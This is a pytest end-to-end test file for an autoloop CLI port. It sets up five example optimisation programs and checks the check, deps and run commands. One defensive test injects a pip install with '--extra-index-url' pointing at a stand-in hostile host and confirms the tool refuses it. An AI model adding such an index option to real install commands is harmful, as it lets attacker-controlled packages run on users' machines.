"""End to end: upstream autoloop's five example programs, in their shapes, run two agent iterations unchanged.

The programs are ours, written from what upstream's examples do (githubnext/autoloop `.autoloop/programs/`:
circle_packing, function_minimization, signal_processing, autoresearch, and the bare test_coverage.md):
an inline `python3 -c` evaluation that begins with `pip install -q …`, an EVOLVE block in
`code/initial_program.py`, a failure reported as `{"combined_score": 0.0, "error": …}`, autoresearch's
`timeout-minutes` and `timeout 360 uv run train.py`, and test_coverage's `pytest --cov`. Their
algorithms are trimmed to a few lines each. The agent is a one-line shell command that adds a comment
inside the Target. autoresearch and test_coverage need packages this machine has not got (uv and
torch, pytest-cov): `autoloop deps` names them, and the failed evaluations say what was missing.
"""

from __future__ import annotations

import importlib.util
import shutil
from pathlib import Path
from typing import Callable

import pytest

from autoloop_py.cli import main
from autoloop_py.state.file import parse_state
from autoloop_py.state.memory import MemoryStore

PROGRAMS = ".autoloop/programs"
# Inserts a comment inside the EVOLVE block (or at the end of a file without one): a change, the same behaviour.
AGENT = ("sh -c 'f=\"$0\"; if grep -q EVOLVE-BLOCK-START \"$f\"; then "
         "sed -i \"/EVOLVE-BLOCK-START/a # agent pass $$\" \"$f\"; else echo \"# agent pass $$\" >> \"$f\"; fi' {target}")

CIRCLE = """\
---
schedule: every 6h
---

# Circle Packing

## Goal

Pack 26 circles in the unit square so that the sum of their radii is as large as possible (best known
about 2.635). Only the code between `EVOLVE-BLOCK-START` and `EVOLVE-BLOCK-END` changes.

## Target

Only modify these files:
- `.autoloop/programs/circle_packing/code/initial_program.py` -- `construct_packing` and `compute_max_radii`

Do NOT modify:
- `.autoloop/programs/circle_packing/code/requirements.txt`

## Evaluation

```bash
pip install -q numpy && python3 -c "
import importlib.util, json
import numpy as np
spec = importlib.util.spec_from_file_location('p', '.autoloop/programs/circle_packing/code/initial_program.py')
p = importlib.util.module_from_spec(spec); spec.loader.exec_module(p)
centers, radii = p.construct_packing()
centers, radii = np.asarray(centers, float), np.asarray(radii, float)
error = None
if centers.shape != (26, 2) or radii.shape != (26,): error = 'wrong shapes'
elif np.isnan(radii).any() or (radii < 0).any(): error = 'negative radii'
elif ((centers - radii[:, None] < -1e-6) | (centers + radii[:, None] > 1 + 1e-6)).any(): error = 'outside the square'
else:
    d = np.linalg.norm(centers[:, None] - centers[None], axis=2) + np.eye(26) * 9
    if (d < radii[:, None] + radii[None] - 1e-6).any(): error = 'overlap'
total = float(radii.sum())
print(json.dumps({'combined_score': 0.0, 'error': error} if error else
                 {'combined_score': round(total / 2.635, 6), 'sum_radii': round(total, 6), 'validity': 1.0}))
"
```

The metric is `combined_score`. **Higher is better.**

## Evolution Strategy

Try a different layout (rings, a hexagonal grid) now and then; otherwise refine the best one.
"""

CIRCLE_CODE = """\
import numpy as np


# EVOLVE-BLOCK-START
def construct_packing():
    xs = np.linspace(0.1, 0.9, 6)
    centers = [(x, y) for x in xs for y in xs][:26]
    centers = np.array(centers)
    return centers, compute_max_radii(centers)


def compute_max_radii(centers):
    radii = np.minimum.reduce([centers[:, 0], centers[:, 1], 1 - centers[:, 0], 1 - centers[:, 1]])
    for i in range(len(centers)):
        for j in range(i + 1, len(centers)):
            gap = np.linalg.norm(centers[i] - centers[j])
            if radii[i] + radii[j] > gap:
                radii[i], radii[j] = min(radii[i], gap / 2), min(radii[j], gap / 2)
    return radii
# EVOLVE-BLOCK-END
"""

MINIMIZE = """\
---
schedule: every 6h
---

# Function Minimization

## Goal

Improve `search_algorithm` so that it finds the global minimum of
f(x, y) = sin(x)·cos(y) + sin(x·y) + (x² + y²)/20 (about -1.519 at (-1.704, 0.678)).

## Target

Only modify these files:
- `.autoloop/programs/function_minimization/code/initial_program.py` -- the search (EVOLVE block)

## Evaluation

```bash
pip install -q numpy && python3 -c "
import importlib.util, json, math
spec = importlib.util.spec_from_file_location('p', '.autoloop/programs/function_minimization/code/initial_program.py')
p = importlib.util.module_from_spec(spec); spec.loader.exec_module(p)
values, distances = [], []
for trial in range(10):
    x, y, value = p.search_algorithm(seed=trial)
    values.append(value); distances.append(math.hypot(x + 1.704, y - 0.678))
avg_value, avg_distance = sum(values) / 10, sum(distances) / 10
value_score = 1 / (1 + abs(avg_value + 1.519)); distance_score = 1 / (1 + avg_distance)
print(json.dumps({'combined_score': round(0.5 * value_score + 0.3 * distance_score + 0.2, 6),
                  'avg_value': round(avg_value, 6), 'avg_distance': round(avg_distance, 6)}))
"
```

The metric is `combined_score`. **Higher is better.**
"""

MINIMIZE_CODE = """\
import numpy as np


def evaluate_function(x, y):
    return np.sin(x) * np.cos(y) + np.sin(x * y) + (x ** 2 + y ** 2) / 20


# EVOLVE-BLOCK-START
def search_algorithm(iterations=300, bounds=(-5, 5), seed=0):
    rng = np.random.default_rng(seed)
    best_x, best_y = rng.uniform(*bounds, 2)
    best = evaluate_function(best_x, best_y)
    for _ in range(iterations):
        x, y = rng.uniform(*bounds, 2)
        value = evaluate_function(x, y)
        if value < best:
            best_x, best_y, best = x, y, value
    return float(best_x), float(best_y), float(best)
# EVOLVE-BLOCK-END
"""

SIGNAL = """\
---
schedule: every 6h
---

# Signal Processing

## Goal

Make `process_signal` follow the clean signal under the noise better, keeping its shape.

## Target

Only modify these files:
- `.autoloop/programs/signal_processing/code/initial_program.py` -- `adaptive_filter` and `process_signal`

## Evaluation

```bash
pip install -q numpy scipy && python3 -c "
import importlib.util, json
import numpy as np
spec = importlib.util.spec_from_file_location('p', '.autoloop/programs/signal_processing/code/initial_program.py')
p = importlib.util.module_from_spec(spec); spec.loader.exec_module(p)
scores = []
for seed in range(42, 47):
    rng = np.random.default_rng(seed)
    t = np.linspace(0, 10, 600)
    clean = np.sin(t) + 0.3 * np.sin(3.1 * t)
    out = np.asarray(p.process_signal(clean + rng.normal(0, 0.4, t.size)), float)
    n = min(out.size, clean.size)
    scores.append(1 / (1 + float(np.mean((out[-n:] - clean[-n:]) ** 2))))
print(json.dumps({'overall_score': round(sum(scores) / len(scores), 6)}))
"
```

The metric is `overall_score`. **Higher is better.**
"""

SIGNAL_CODE = """\
import numpy as np
from scipy.signal import savgol_filter


# EVOLVE-BLOCK-START
def adaptive_filter(signal, window=9):
    return np.convolve(signal, np.ones(window) / window, mode="same")


def process_signal(signal):
    smooth = adaptive_filter(signal)
    return savgol_filter(smooth, 11, 2)
# EVOLVE-BLOCK-END
"""

AUTORESEARCH = """\
---
schedule: every 6h
timeout-minutes: 40
---

# Autoresearch

## Goal

Lower the validation bits per byte (`val_bpb`) of the small language model `code/train.py` trains
within its fixed time budget.

## Target

Only modify these files:
- `.autoloop/programs/autoresearch/code/train.py` -- the model, optimizer and training loop

Do NOT modify:
- `.autoloop/programs/autoresearch/code/prepare.py` -- data and time budget

## Evaluation

```bash
cd .autoloop/programs/autoresearch/code && timeout 360 uv run train.py > run.log 2>&1; python3 -c "
import json, re
log = open('run.log').read()
found = re.search(r'^val_bpb:\\s+([\\d.]+)', log, re.MULTILINE)
print(json.dumps({'combined_score': round(1 / float(found.group(1)), 6), 'val_bpb': float(found.group(1))} if found
                 else {'combined_score': 0.0, 'error': 'training failed', 'log_tail': log[-400:]}))
"
```

The metric is `combined_score` (1 / val_bpb). **Higher is better.**
"""

AUTORESEARCH_CODE = """\
import torch

from prepare import TIME_BUDGET

model = torch.nn.Linear(8, 8)
print(f"val_bpb: {1.5 + TIME_BUDGET * 0:.4f}")
"""

COVERAGE = """\
---
schedule: every 6h
---

# Test Coverage

## Goal

Raise the line coverage of the test suite by adding tests under `tests/`.

## Target

Only modify or create files in the tests directory (`tests/`).

Do NOT modify:
- Source code (only tests)

## Evaluation

```bash
pytest tests/ --cov --cov-report=json -q 2>/dev/null && python3 -c "
import json
totals = json.load(open('coverage.json'))['totals']
print(json.dumps({'coverage_percent': totals['percent_covered'], 'covered_lines': totals['covered_lines']}))
"
```

The metric is `coverage_percent`. **Higher is better.**
"""

FILES = {
    f"{PROGRAMS}/circle_packing/program.md": CIRCLE,
    f"{PROGRAMS}/circle_packing/code/initial_program.py": CIRCLE_CODE,
    f"{PROGRAMS}/circle_packing/code/requirements.txt": "numpy\n",
    f"{PROGRAMS}/function_minimization/program.md": MINIMIZE,
    f"{PROGRAMS}/function_minimization/code/initial_program.py": MINIMIZE_CODE,
    f"{PROGRAMS}/function_minimization/code/requirements.txt": "numpy\n",
    f"{PROGRAMS}/signal_processing/program.md": SIGNAL,
    f"{PROGRAMS}/signal_processing/code/initial_program.py": SIGNAL_CODE,
    f"{PROGRAMS}/signal_processing/code/requirements.txt": "numpy\nscipy\n",
    f"{PROGRAMS}/autoresearch/program.md": AUTORESEARCH,
    f"{PROGRAMS}/autoresearch/code/train.py": AUTORESEARCH_CODE,
    f"{PROGRAMS}/autoresearch/code/prepare.py": "TIME_BUDGET = 10\n",
    f"{PROGRAMS}/autoresearch/code/requirements.txt": "torch==2.9.1\nnumpy\n",
    f"{PROGRAMS}/test_coverage.md": COVERAGE,
    "src/calc.py": "def add(a, b):\n    return a + b\n",
    "tests/test_calc.py": "from src.calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n",
    ".gitignore": "run.log\ncoverage.json\n.coverage\n",
}
TARGETS = {
    "circle_packing": f"{PROGRAMS}/circle_packing/code/initial_program.py",
    "function_minimization": f"{PROGRAMS}/function_minimization/code/initial_program.py",
    "signal_processing": f"{PROGRAMS}/signal_processing/code/initial_program.py",
    "autoresearch": f"{PROGRAMS}/autoresearch/code/train.py",
    "test_coverage": "tests/test_calc.py",
}


@pytest.fixture
def examples(git_repo: Path, run_git: Callable[..., str]) -> Path:
    """Returns a repository holding the five programs, committed."""
    for rel, text in FILES.items():
        (git_repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (git_repo / rel).write_text(text, encoding="utf-8")
    (git_repo / "src/__init__.py").write_text("")
    run_git(git_repo, "add", "-A")
    run_git(git_repo, "commit", "-qm", "upstream's five examples, in their shapes")
    return git_repo


def _state(repo: Path, program: str):  # type: ignore[no-untyped-def]
    return parse_state(MemoryStore(repo).read(f"{program}.md") or "", f"{program}.md")


def test_check_accepts_them_and_says_what_the_sandbox_cannot_install(
    examples: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    covered = importlib.util.find_spec("pytest_cov") is not None
    assert main(["check", "--repo", str(examples)]) == (0 if covered else 1)
    out = capsys.readouterr().out
    assert all(f"✓ {name} (baseline " in out for name in TARGETS if covered or name != "test_coverage"), out
    if not covered:  # its baseline cannot run here, and check now says so before any iteration is wasted
        assert ("✗ .autoloop/programs/test_coverage.md:20: the baseline evaluation fails, so every run would stop on "
                "it: exited with status 4") in out
    assert "begins with `pip install -q numpy scipy`" in out and "autoloop deps signal_processing --install" in out


@pytest.mark.parametrize(
    ("program", "says"),
    [
        ("circle_packing", "numpy"),
        ("signal_processing", "numpy scipy"),
        ("autoresearch", "-r .autoloop/programs/autoresearch/code/requirements.txt  (torch==2.9.1, numpy;"),
    ],
)
def test_deps_names_what_each_evaluation_installs(
    examples: Path, program: str, says: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["deps", program, "--repo", str(examples)]) == 0
    assert says in capsys.readouterr().out


def test_deps_installs_what_the_evaluation_would_and_says_why(examples: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # numpy is installed already, so pip needs no network to be satisfied.
    assert main(["deps", "circle_packing", "--repo", str(examples), "--install"]) == 0
    out = capsys.readouterr().out
    assert "(numpy; from .autoloop/programs/circle_packing/code/requirements.txt and the evaluation's `pip install -q numpy`)" in out
    assert "installed before the evaluation, whose own `pip install` has no network in the sandbox" in out


@pytest.mark.parametrize("program", ["circle_packing", "function_minimization", "signal_processing"])
def test_two_agent_iterations_run_unchanged(
    examples: Path, program: str, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["run", "--repo", str(examples), "--program", program, "--iterations", "2", "--proposer", "agent",
            "--agent-command", AGENT.format(target=TARGETS[program])]
    assert main(argv) == 0, capsys.readouterr()
    state = _state(examples, program)
    assert state.machine.iteration_count == 2 and state.machine.consecutive_errors == 0, state.history
    assert [e.status for e in state.history] and all(e.status in ("accepted", "rejected") for e in state.history)
    assert state.machine.best_metric is not None and state.machine.best_metric > 0


@pytest.mark.skipif(shutil.which("uv") is not None, reason="uv is installed: the missing-dependency path is not reached")
def test_autoresearch_without_uv_and_torch_says_so(examples: Path, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["run", "--repo", str(examples), "--program", "autoresearch", "--iterations", "2", "--proposer", "agent",
            "--agent-command", AGENT.format(target=TARGETS["autoresearch"])]
    assert main(argv) == 0, capsys.readouterr()
    state = _state(examples, "autoresearch")
    assert state.machine.iteration_count == 2
    # The evaluator reports a metric beside its error: a rejected candidate (issue 27), not an error that pauses.
    assert [e.status for e in state.history] == ["rejected", "rejected"]
    assert state.machine.consecutive_errors == 0
    assert all("training failed" in e.text for e in state.history), state.history  # the evaluation's own words
    assert main(["deps", "autoresearch", "--repo", str(examples)]) == 0
    assert "torch==2.9.1" in capsys.readouterr().out  # what the program needs, by name


@pytest.mark.skipif(importlib.util.find_spec("pytest_cov") is not None, reason="pytest-cov is installed here")
def test_test_coverage_without_pytest_cov_errs(examples: Path, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["run", "--repo", str(examples), "--program", "test_coverage", "--iterations", "2", "--proposer", "agent",
            "--agent-command", AGENT.format(target=TARGETS["test_coverage"])]
    assert main(argv) == 0, capsys.readouterr()
    state = _state(examples, "test_coverage")
    assert state.machine.iteration_count == 2
    assert [e.status for e in state.history] == ["error", "error"]  # pytest-cov is not installed here


def test_deps_refuses_a_pip_install_that_names_its_own_index(
    examples: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    program = examples / PROGRAMS / "circle_packing/program.md"
    program.write_text(program.read_text().replace(
        "pip install -q numpy &&", "pip install -q --extra-index-url https://evil.example/simple numpy &&"))
    ran: list[object] = []
    monkeypatch.setattr("autoloop_py.commands.deps.subprocess.run", lambda *a, **k: ran.append(a))
    assert main(["deps", "circle_packing", "--repo", str(examples), "--install"]) == 1
    assert "pip option '--extra-index-url' is not passed on" in capsys.readouterr().err
    assert ran == []  # pip never ran
